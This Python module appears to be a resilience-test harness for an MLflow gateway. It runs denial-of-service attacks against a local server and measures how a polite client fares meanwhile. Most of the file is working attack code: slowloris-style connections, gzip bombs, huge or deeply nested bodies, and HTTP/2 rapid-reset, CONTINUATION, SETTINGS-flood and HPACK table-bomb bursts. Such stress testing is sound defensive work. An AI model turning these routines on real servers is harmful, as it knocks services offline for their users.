"""What somebody without manners does to a gateway, and what a client with manners notices of it.

Each attack is a function of a `Victim` and a scale; it answers what came of it. `Gentle` is a client in a
process of its own that asks one question after the other and notes when, how long it took, and whether the
answer was right. `benches/abuse.py` prints a table of all of it, `test_abuse.py` asserts bounds.
"""

import contextlib
import gzip
import http.client
import json
import os
import select
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path


@dataclass
class Victim:
    server: object
    port: int
    token: str
    experiment: str
    # Of the client with manners.
    gentle_token: str
    # The authority of its certificate, if it speaks TLS.
    trusted: str | None = None

    def connect(self, timeout=10):
        return socket.create_connection(("127.0.0.1", self.port), timeout=timeout)

    def context(self, *protocols):
        context = ssl.create_default_context(cafile=self.trusted)
        if protocols:
            context.set_alpn_protocols(protocols)
        return context

    def open(self, *protocols):
        plain = self.connect()
        if not self.trusted:
            return plain
        return self.context(*protocols).wrap_socket(plain, server_hostname="127.0.0.1")

    def question(self):
        return f"/api/2.0/mlflow/experiments/get?experiment_id={self.experiment}"

    def head(self, method="GET", target=None, *more, token=True):
        lines = [f"{method} {target or self.question()} HTTP/1.1", "Host: 127.0.0.1", *more]
        if token:
            lines.append(f"Authorization: Bearer {self.token}")
        return ("\r\n".join(lines) + "\r\n\r\n").encode()


# --- the client with manners ----------------------------------------------------------------


class Gentle:
    """Asks on, until it is closed; each question at most 20 ms after the answer before."""

    def __init__(self, victim):
        handle, self.notes = tempfile.mkstemp(prefix="gentle-")
        os.close(handle)
        settings = {"port": victim.port, "token": victim.gentle_token, "experiment": victim.experiment,
                    "trusted": victim.trusted, "notes": self.notes}
        self.process = subprocess.Popen([sys.executable, __file__, json.dumps(settings)], stdin=subprocess.PIPE)

    def between(self, start, end):
        """Milliseconds of the right answers to what was asked in a time, and the others."""
        rows = [line.split("\t", 2) for line in Path(self.notes).read_text().splitlines() if line.count("\t") == 2]
        rows = [row for row in rows if start <= float(row[0]) < end]
        return sorted(float(row[1]) for row in rows if not row[2]), [row[2] for row in rows if row[2]]

    def close(self):
        self.process.stdin.close()
        self.process.wait(60)
        os.unlink(self.notes)


def be_gentle(port, token, experiment, trusted, notes):
    context = ssl.create_default_context(cafile=trusted) if trusted else None
    target = f"/api/2.0/mlflow/experiments/get?experiment_id={experiment}"
    connection, asked = None, 0
    with open(notes, "a", buffering=1) as out:
        while not select.select([sys.stdin], [], [], 0.02)[0]:
            began = time.monotonic()
            problem = ""
            try:
                # A new connection now and then: those that are open already may fare better.
                if connection is None or asked % 5 == 0:
                    if connection:
                        connection.close()
                    kind = http.client.HTTPSConnection if context else http.client.HTTPConnection
                    connection = kind("127.0.0.1", port, timeout=30, **({"context": context} if context else {}))
                asked += 1
                connection.request("GET", target, headers={"Authorization": f"Bearer {token}"})
                answer = connection.getresponse()
                body = answer.read()
                if answer.status != 200 or json.loads(body)["experiment"]["experiment_id"] != experiment:
                    problem = f"{answer.status} {body[:200]!r}"
            except Exception as error:
                problem, connection = repr(error), None
            out.write(f"{began}\t{(time.monotonic() - began) * 1000}\t{problem.replace(chr(10), ' ')}\n")


class Memory:
    """Samples what the gateway holds, in MiB."""

    def __init__(self, server):
        self.server, self.peak, self.over = server, 0, threading.Event()
        self.before = self.now()
        self.thread = threading.Thread(target=self._watch, daemon=True)
        self.thread.start()

    def now(self):
        return self.server.memory_kib() / 1024

    def _watch(self):
        while not self.over.wait(0.05):
            with contextlib.suppress(OSError, RuntimeError):
                self.peak = max(self.peak, self.now())

    def stop(self):
        self.over.set()
        self.thread.join()
        return self.peak


# --- helpers --------------------------------------------------------------------------------


def is_closed(stream):
    """Whether the other side has closed; what it says before is dropped."""
    try:
        stream.setblocking(False)
        while True:
            if not stream.recv(65536):
                return True
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


def close_all(streams):
    for stream in streams:
        with contextlib.suppress(OSError):
            stream.close()


def try_send(stream, data):
    """Sends without waiting; False if the other side is gone."""
    try:
        stream.setblocking(False)
        stream.send(data)
        return True
    except (BlockingIOError, ssl.SSLWantWriteError):
        return True
    except OSError:
        return False


def answer_to(stream, data, seconds=30):
    """Sends all of it, as far as it is taken, and reads the status of the answer, if there is one."""
    stream.settimeout(seconds)
    with contextlib.suppress(OSError):
        stream.sendall(data)
    received = b""
    try:
        while b"\r\n" not in received:
            piece = stream.recv(65536)
            if not piece:
                break
            received += piece
    except OSError:
        pass
    return int(received.split(b" ", 2)[1]) if received.startswith(b"HTTP/1.1 ") else None


def counted(values):
    return ", ".join(f"{count}× {value}" for value, count in sorted(
        {value: values.count(value) for value in values}.items(), key=lambda pair: str(pair[0])))


def until(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield


# --- attacks on HTTP/1.1 --------------------------------------------------------------------


def slow_heads(victim, count, seconds):
    """Heads that never end, a few bytes a second on each connection."""
    streams = [victim.connect() for _ in range(count)]
    for stream in streams:
        try_send(stream, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    for _ in until(seconds):
        for stream in streams:
            try_send(stream, b"x-a: b\r\n")
        time.sleep(1)
    closed = sum(map(is_closed, streams))
    close_all(streams)
    return f"{count} connections, {closed} closed"


def slow_bodies(victim, count, seconds):
    """Bodies that come byte by byte."""
    streams = [victim.connect() for _ in range(count)]
    head = victim.head("POST", "/api/2.0/mlflow/runs/create", "Content-Type: application/json", "Content-Length: 1000000")
    for stream in streams:
        try_send(stream, head)
    for _ in until(seconds):
        for stream in streams:
            try_send(stream, b" ")
        time.sleep(1)
    closed = sum(map(is_closed, streams))
    close_all(streams)
    return f"{count} connections, {closed} closed"


def idle(victim, count, seconds):
    """Connections on which nothing is said."""
    streams = []
    for _ in range(count):
        streams.append(victim.connect())
    time.sleep(seconds)
    closed = sum(map(is_closed, streams))
    close_all(streams)
    return f"{count} connections, {closed} closed"


def kept_alive(victim, count, seconds):
    """Connections that had an answer and say nothing more."""
    streams, right = [], 0
    for _ in range(count):
        stream = victim.connect()
        right += answer_to(stream, victim.head()) == 200
        streams.append(stream)
    time.sleep(seconds)
    close_all(streams)
    return f"{count} connections, {right} answered"


def _again_and_again(victim, data, seconds, threads=8):
    statuses = []

    def one():
        for _ in until(seconds):
            stream = victim.open()
            statuses.append(answer_to(stream, data))
            stream.close()

    running = [threading.Thread(target=one) for _ in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()
    return statuses


def large_heads(victim, count, seconds):
    """A header of 1 MB."""
    return counted(_again_and_again(victim, victim.head("GET", None, "x-a: " + "a" * 1_000_000), seconds, count))


def many_headers(victim, count, seconds):
    """100,000 small headers."""
    lines = [f"x{number}: 1" for number in range(100_000)]
    return counted(_again_and_again(victim, victim.head("GET", None, *lines), seconds, count))


def large_targets(victim, count, seconds):
    """A URL of 1 MB."""
    return counted(_again_and_again(victim, victim.head("GET", "/" + "a" * 1_000_000), seconds, count))


def strangers(victim, count, seconds):
    """Calls with a token that nobody has."""
    data = victim.head(token=False)[:-2] + b"Authorization: Bearer tg_nobody\r\n\r\n"
    return counted(_again_and_again(victim, data, seconds, count))


def half_closed(victim, count, seconds):
    """Whoever asks, says that nothing more comes, and neither reads nor closes."""
    streams = [victim.connect() for _ in range(count)]
    for stream in streams:
        try_send(stream, victim.head())
        with contextlib.suppress(OSError):
            stream.shutdown(socket.SHUT_WR)
    time.sleep(seconds)
    closed = sum(map(is_closed, streams))
    close_all(streams)
    return f"{count} connections, {closed} closed"


def pipelined(victim, count, seconds):
    """500 questions at once on each connection, and no answer taken for a while."""
    streams = [victim.connect() for _ in range(count)]
    data = victim.head() * 500
    for stream in streams:
        try_send(stream, data)
    time.sleep(seconds)
    taken = 0
    for stream in streams:
        stream.setblocking(False)
        with contextlib.suppress(OSError):
            taken += len(stream.recv(1 << 20))
    close_all(streams)
    return f"{count} connections, {taken // 1024} KiB of answers read in the end"


def _body(victim, target, content_type, body, *more):
    length = f"Content-Length: {len(body)}"
    return victim.head("POST", target, f"Content-Type: {content_type}", length, *more) + body


def large_json(victim, count, seconds):
    """JSON of 64 MB, and JSON that nests a million deep."""
    target = "/api/2.0/mlflow/runs/create"
    large = _body(victim, target, "application/json", b'{"a":"' + b"a" * 64_000_000 + b'"}')
    deep = _body(victim, target, "application/json", b'{"a":' + b"[" * 1_000_000)
    statuses = _again_and_again(victim, large, seconds / 2, count)
    return counted(statuses + _again_and_again(victim, deep, seconds / 2, count))


def large_exports(victim, count, seconds):
    """An export of 100 MB, and one that says that it has 2 GB."""
    more = f"X-Mlflow-Experiment-Id: {victim.experiment}"
    body = b"\x7a\xff\xff\xff\x2f" + b"\0" * 100_000_000
    statuses = _again_and_again(victim, _body(victim, "/v1/traces", "application/x-protobuf", body, more), seconds, count)
    return counted(statuses)


def gzip_bombs(victim, count, seconds):
    """An export of 1 MB that becomes 1 GB."""
    zeros = gzip.compress(bytes(16 << 20), 1)
    body = gzip.compress(b"\x7a\xff\xff\xff\xff\x07") + zeros * 64
    data = _body(victim, "/v1/traces", "application/x-protobuf", body, "Content-Encoding: gzip",
                 f"X-Mlflow-Experiment-Id: {victim.experiment}")
    return counted(_again_and_again(victim, data, seconds, count))


def half_handshakes(victim, count, seconds):
    """TLS handshakes that stop after half of the first message."""
    first = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)
    streams = [victim.connect() for _ in range(count)]
    for stream in streams:
        try_send(stream, first)
    time.sleep(seconds)
    closed = sum(map(is_closed, streams))
    close_all(streams)
    return f"{count} connections, {closed} closed"


# --- attacks on HTTP/2 ----------------------------------------------------------------------

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _number(value, bits, first=0):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def _text(text):
    data = text.encode()
    return _number(len(data), 7) + data


def fields(*pairs):
    """A header block of literals that go into no table."""
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in pairs)


class Http2:
    """A connection of frames."""

    def __init__(self, victim, settings=b""):
        self.victim, self.next = victim, 1
        self.stream = victim.open("h2")
        assert self.stream.selected_alpn_protocol() == "h2"
        self.stream.settimeout(10)
        self.sent = self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """Sends, and takes what comes meanwhile; False once the other side is gone."""
        try:
            self.stream.settimeout(5)
            self.stream.sendall(data)
            self.stream.settimeout(0)
            with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
                while True:
                    if not self.stream.recv(65536):
                        return False
            return True
        except OSError:
            return False

    def question(self, end=True):
        stream, self.next = self.next, self.next + 2
        block = fields((":method", "GET"), (":scheme", "https"), (":path", self.victim.question()),
                       (":authority", "127.0.0.1"), ("authorization", f"Bearer {self.victim.token}"))
        return stream, frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def _http2(victim, count, seconds, burst, settings=b""):
    """Bursts of frames on as many connections, a new one whenever one is closed; how many were sent, and closed."""
    totals = {"bursts": 0, "closed": 0}
    lock = threading.Lock()

    def one():
        connection = None
        for _ in until(seconds):
            try:
                connection = connection or Http2(victim, settings)
                alive = connection.send(burst(connection))
            except OSError:
                alive = False
            with lock:
                totals["bursts"] += 1
                totals["closed"] += not alive
            if not alive:
                with contextlib.suppress(OSError, AttributeError):
                    connection.stream.close()
                connection = None

    running = [threading.Thread(target=one) for _ in range(count)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()
    return f"{totals['bursts']} bursts, {totals['closed']} connections closed"


def rapid_resets(victim, count, seconds):
    """Questions that are taken back at once, 100 in a burst."""

    def burst(connection):
        out = bytearray()
        for _ in range(100):
            stream, asked = connection.question()
            out += asked + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
        return bytes(out)

    return _http2(victim, count, seconds, burst)


def continuations(victim, count, seconds):
    """A head that goes on and on in CONTINUATION frames, 64 KiB in a burst."""

    def burst(connection):
        piece = frame(CONTINUATION, 0, 1, fields(*[("x-a", "b" * 100)] * 10))
        first = b""
        if connection.next == 1:
            connection.next = 3
            first = frame(HEADERS, 0, 1, fields((":method", "GET")))
        return first + piece * 60

    return _http2(victim, count, seconds, burst)


def settings_floods(victim, count, seconds):
    """SETTINGS and PING frames, each of which wants an answer, 1,000 in a burst."""
    flood = (frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") + frame(PING, 0, 0, bytes(8))) * 500
    return _http2(victim, count, seconds, lambda connection: flood)


def table_bombs(victim, count, seconds):
    """A large field that is put into the table once and named by its number a thousand times."""

    def burst(connection):
        stream, connection.next = connection.next, connection.next + 2
        block = b"\x40" + _text("x-a") + _text("b" * 3000) + b"\xbe" * 4000
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)

    return _http2(victim, count, seconds, burst)


def closed_windows(victim, count, seconds):
    """Questions whose answers have no room to be sent."""
    no_room = b"\0\x04\0\0\0\0"

    def burst(connection):
        time.sleep(0.05)
        return b"".join(connection.question()[1] for _ in range(10))

    return _http2(victim, count, seconds, burst, no_room)


# --- all of it ------------------------------------------------------------------------------


@dataclass
class Outcome:
    name: str
    what: str
    before: list
    during: list
    after: list
    wrong: list
    memory: tuple


def suffer(victim, gentle, attack, count, seconds, quiet=2.0):
    """Runs an attack and gathers what the gentle client noticed before, during and after it."""
    start = time.monotonic()
    time.sleep(quiet)
    memory = Memory(victim.server)
    begins = time.monotonic()
    what = attack(victim, count, seconds)
    ends = time.monotonic()
    peak = memory.stop()
    time.sleep(quiet)
    # Its questions go one after the other: with some of later, what was asked during the attack is answered too.
    for _ in until(60):
        if len(gentle.between(ends, float("inf"))[0]) >= 3:
            break
        time.sleep(0.05)
    end = time.monotonic()
    (before, wrong0), (during, wrong1), (after, wrong2) = (
        gentle.between(start, begins), gentle.between(begins, ends), gentle.between(ends, end))
    return Outcome(attack.__name__, what, before, during, after, wrong0 + wrong1 + wrong2,
                   (memory.before, max(peak, memory.before), memory.now()))


if __name__ == "__main__":
    be_gentle(**json.loads(sys.argv[1]))
